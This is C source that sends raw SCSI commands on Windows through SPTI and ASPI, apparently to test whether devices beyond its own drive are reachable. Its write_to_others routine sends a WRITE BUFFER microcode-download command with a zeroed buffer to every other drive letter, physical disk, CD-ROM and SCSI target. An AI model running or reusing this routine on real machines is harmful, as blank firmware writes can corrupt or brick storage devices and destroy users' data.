/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "greedy.h"

#include <stdio.h>
#include <string.h>

#include "aspi.h"
#include "spti.h"

#define ADAPTER 2 /* the drive's own */
#define TIMEOUT_S 5
#define INQUIRY_LENGTH 96
#define PIECE 0x1000
#define MOST_ANSWERS 8

typedef DWORD (__cdecl *SendCommand) (SRB_Header *srb);

static const UCHAR write_buffer[10] = { 0x3b, 0x07, 0, 0, 0, 0, 0, PIECE >> 8, 0, 0 };
static const UCHAR inquiry[6] = { 0x12, 0, 0, 0, INQUIRY_LENGTH, 0 };

/* Where Windows would have another drive */
typedef struct {
  const char *name;
  UCHAR path, target, lun;
} Place;

static int
send_spti (const Place *place, const UCHAR *cdb, UCHAR cdb_len, UCHAR way, void *data, ULONG length)
{
  SptiDirect packet = { .Length = sizeof packet,
                        .PathId = place->path,
                        .TargetId = place->target,
                        .Lun = place->lun,
                        .CdbLength = cdb_len,
                        .DataIn = way,
                        .DataTransferLength = length,
                        .TimeOutValue = TIMEOUT_S,
                        .DataBuffer = data };
  HANDLE file = CreateFileA (place->name, GENERIC_READ | GENERIC_WRITE,
                             FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING, 0, NULL);
  DWORD n = 0;
  BOOL sent;

  memcpy (packet.Cdb, cdb, cdb_len);
  if (file == INVALID_HANDLE_VALUE)
    return 0;
  sent = DeviceIoControl (file, SPTI_PASS_THROUGH_DIRECT, &packet, sizeof packet, &packet,
                          sizeof packet, &n, NULL);
  CloseHandle (file);
  return sent && packet.ScsiStatus == 0;
}

static int
write_to (const char *name)
{
  static UCHAR data[PIECE];
  const Place place = { .name = name };
  int taken = send_spti (&place, write_buffer, sizeof write_buffer, SPTI_OUT, data, sizeof data);

  if (taken)
    printf ("%s took it\n", name);
  return taken;
}

static int
write_by_aspi (SendCommand send, BYTE adapter, BYTE target, BYTE lun)
{
  static UCHAR data[PIECE];
  HANDLE event = CreateEventA (NULL, TRUE, FALSE, NULL);
  SRB_ExecSCSICmd srb = { .h = { .SRB_Cmd = SC_EXEC_SCSI_CMD,
                                 .SRB_HaId = adapter,
                                 .SRB_Flags = SRB_EVENT_NOTIFY | SRB_DIR_OUT },
                          .SRB_Target = target,
                          .SRB_Lun = lun,
                          .SRB_BufLen = sizeof data,
                          .SRB_BufPointer = data,
                          .SRB_SenseLen = ASPI_SENSE_LEN,
                          .SRB_CDBLen = sizeof write_buffer,
                          .SRB_PostProc = event };

  memcpy (srb.CDBByte, write_buffer, sizeof write_buffer);
  if (send (&srb.h) == SS_PENDING)
    WaitForSingleObject (event, INFINITE);
  CloseHandle (event);
  if (srb.h.SRB_Status != SS_COMP)
    return 0;
  printf ("ASPI %u:%u:%u took it\n", adapter, target, lun);
  return 1;
}

static int
write_to_targets (void)
{
  HMODULE library = LoadLibraryA ("wnaspi32.dll");
  SendCommand send = library != NULL
                         ? (SendCommand) (void *) GetProcAddress (library, "SendASPI32Command")
                         : NULL;
  int n = 0;

  for (int i = 1; send != NULL && i < 4 * 16 * 2; i++)
    n += write_by_aspi (send, (BYTE) (i / 32), (BYTE) (i / 2 % 16), (BYTE) (i % 2));
  return n;
}

int
write_to_others (char own)
{
  char name[32];
  int n = write_to_targets ();

  for (char letter = 'A'; letter <= 'Z'; letter++)
    {
      snprintf (name, sizeof name, "\\\\.\\%c:", letter);
      n += letter != own && write_to (name);
    }
  for (int i = 0; i < 16; i++)
    {
      snprintf (name, sizeof name, "\\\\.\\PhysicalDrive%d", i);
      n += write_to (name);
      snprintf (name, sizeof name, "\\\\.\\CdRom%d", i + 1);
      n += write_to (name);
      snprintf (name, sizeof name, "\\\\.\\Scsi%d:", i);
      n += i != ADAPTER && write_to (name);
    }
  return n;
}

int
count_on_bus (void)
{
  UCHAR seen[MOST_ANSWERS][INQUIRY_LENGTH];
  char name[32];
  int n = 0;

  snprintf (name, sizeof name, "\\\\.\\Scsi%d:", ADAPTER);
  for (int i = 0; i < 2 * 16 * 2; i++)
    {
      const Place place = { name, (UCHAR) (i / 32), (UCHAR) (i / 2 % 16), (UCHAR) (i % 2) };
      UCHAR data[INQUIRY_LENGTH] = { 0 };
      int at = 0;

      if (!send_spti (&place, inquiry, sizeof inquiry, SPTI_IN, data, sizeof data))
        continue;
      while (at < n && memcmp (seen[at], data, sizeof data) != 0)
        at++;
      if (at == n && n < MOST_ANSWERS)
        memcpy (seen[n++], data, sizeof data);
    }
  return n;
}
